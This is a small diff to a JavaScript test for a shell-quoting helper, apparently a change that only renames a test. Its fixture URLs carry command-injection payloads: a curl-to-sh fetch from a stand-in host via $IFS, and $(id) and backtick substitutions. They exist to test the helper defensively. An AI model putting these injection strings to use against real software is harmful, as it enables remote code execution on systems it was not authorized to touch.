@@ -4,7 +4,7 @@ import { describe, it } from 'node:test';
 import { shellWord } from '../../../src/diagnostics/core/shell-word.js';
 
 describe('a URL in a shell command', () => {
-  it('is parsed as a single shell word, regardless of its characters', () => {
+  it('is always a single shell word', () => {
     for (const address of [
       "https://x/;curl$IFS'evil.example'|sh",
       'https://x$(id)/`id`',
